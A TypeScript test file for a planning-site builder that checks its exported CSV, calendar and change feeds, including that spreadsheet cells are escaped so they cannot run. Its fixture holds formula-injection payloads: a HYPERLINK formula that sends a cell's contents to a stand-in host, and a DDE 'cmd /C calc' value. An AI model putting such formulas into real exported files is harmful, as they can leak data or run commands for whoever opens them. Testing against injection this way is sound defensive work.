import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { slug } from '../../src/plan/name.ts';
import { parseCsv } from '../helpers/parse-csv.ts';
import { parseXml } from '../helpers/parse-xml.ts';
import { type BuiltSite, buildSite } from '../helpers/site.ts';
import { on, type Sheets, writeWorkbook } from '../helpers/workbooks.ts';

const HOSTILE = '=HYPERLINK("https://example.org?x="&A1,"open")';
const ODD = 'שלום, “so”;\n=1+1 <b>&amp;</b> 👩‍🔬';

/** A plan whose texts try to break out of what they stand in. */
const PLAN: Sheets = {
  Goals: [
    ['ID', 'Team', 'Goal', 'Start', 'Due', 'Owner'],
    ['G1', '@North', HOSTILE, on('2026-01-01'), on('2026-12-31'), '+Ann Lee'],
  ],
  Milestones: [
    ['ID', 'Goal', 'Milestone', 'Owner', 'Start', 'Due', 'Status', 'Done on'],
    ['=M1', 'G1', ODD, '+Ann Lee', on('2026-01-01'), on('2026-04-01'), 'Done', on('2026-01-31')],
    ['M2', 'G1', '-2+3', '+Ann Lee', on('2026-04-01'), on('2026-12-31'), null, null],
  ],
  Actions: [
    ['Milestone', 'Action', 'Owner', 'Due', 'Status', 'Promised to'],
    ['M2', "' =cmd|' /C calc'!A0", 'Bo Ek', on('2026-06-30'), null, '-Acme'],
    ['M2', ODD, '+Ann Lee', on('2026-07-01'), 'In progress', null],
  ],
  Updates: [
    ['Date', 'Team', 'Update', 'About', 'By'],
    [on('2026-06-16'), '@North', ODD, 'M2', 'Bo Ek'],
  ],
};
const ORIGIN = 'https://plan.example.com';
const FEED = /\.(csv|ics|xml)$|^build\.json$/;

let folder = '';
let site: BuiltSite;
/** The same plan where it is another day at the same time. */
let elsewhere: BuiltSite;
let feeds: string[] = [];
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'milepost-feeds-'));
  const book = await writeWorkbook(folder, 'hostile.xlsx', PLAN);
  const env = { MILEPOST_SITE: ORIGIN, MILEPOST_BASE: '/plan/' };
  const args = [book, '--as-of', '2026-06-17'];
  site = await buildSite(args, { ...env, TZ: 'Pacific/Kiritimati' });
  elsewhere = await buildSite(args, { ...env, TZ: 'Pacific/Niue' });
  feeds = readdirSync(site.folder, { recursive: true, encoding: 'utf8' }).filter((path) => FEED.test(path));
});
afterAll(async () => {
  await site.close();
  await elsewhere.close();
  rmSync(folder, { recursive: true, force: true });
});

const people = ['+Ann Lee', 'Bo Ek', '-Acme'].map((name) => `people/${slug(name)}/`);
const calendars = ['', 'teams/north/', ...people].map((path) => `${path}calendar.ics`);

describe('the feeds of a built site', () => {
  it('are these, the same bytes in every time zone', () => {
    expect(feeds.sort()).toEqual(
      [...calendars, 'actions.csv', 'build.json', 'changes.xml', 'milestones.csv'].sort(),
    );
    for (const feed of feeds) {
      const bytes = readFileSync(join(site.folder, feed));
      expect(bytes.equals(readFileSync(join(elsewhere.folder, feed))), feed).toBe(true);
    }
  });

  it('have tables of which no text runs', () => {
    for (const feed of ['actions.csv', 'milestones.csv']) {
      const [headers = [], ...rows] = parseCsv(site.read(feed));
      expect([...readFileSync(join(site.folder, feed)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(rows).toHaveLength(2);
      for (const row of rows) {
        expect(row).toHaveLength(headers.length);
        for (const cell of row) expect(cell).toMatch(/^(?:-?[\d.]+$|[^=+\-@\t\r]|$)/);
        expect(row).toContain(`'${HOSTILE}`);
      }
    }
    expect(site.read('actions.csv')).toContain(",'-Acme,");
  });

  it('have calendars with the days of the workbook', () => {
    const daysOf = (path: string) =>
      new ICAL.Component(ICAL.parse(site.read(path)))
        .getAllSubcomponents('vevent')
        .map((event) => `${event.getFirstPropertyValue('dtstart')} ${event.getFirstPropertyValue('dtend')}`);
    expect(calendars.map(daysOf)).toEqual([
      ['2026-01-31 2026-02-01', '2026-12-31 2027-01-01'],
      ['2026-01-31 2026-02-01', '2026-12-31 2027-01-01'],
      ['2026-01-31 2026-02-01', '2026-07-01 2026-07-02', '2026-12-31 2027-01-01'],
      ['2026-06-30 2026-07-01'],
      [],
    ]);
    expect(site.read('calendar.ics')).toContain('URL;VALUE=URI:https://plan.example.com/plan/teams/north/#');
  });

  it('have a feed of changes that holds every text', () => {
    const entry = parseXml(site.read('changes.xml')).children.find(({ name }) => name === 'entry');
    const content = entry?.children.find(({ name }) => name === 'content')?.text;
    expect(content).toContain(`Update: ${ODD} (M2, Bo Ek)`);
  });

  it('tell the sum of plan.json', () => {
    const bytes = readFileSync(join(site.folder, 'plan.json'));
    const { plan } = JSON.parse(site.read('build.json'));
    expect(plan).toBe(createHash('sha256').update(bytes).digest('hex'));
  });

  it('are linked to from the pages', () => {
    const linked = new Set<string>();
    for (const page of site.pages) {
      const html = site.read(join(page, 'index.html'));
      expect(html).toContain('<link rel="alternate" type="application/atom+xml"');
      for (const [, path = ''] of html.matchAll(/<a href="\/plan\/([^"#]*\.(?:csv|ics|xml|json))"/g)) {
        linked.add(path);
      }
    }
    const unlinked = [...feeds, 'plan.json'].filter((feed) => !linked.has(feed));
    expect(unlinked).toEqual(['build.json']);
    expect([...linked].filter((path) => !existsSync(join(site.folder, path)))).toEqual([]);
  });
});
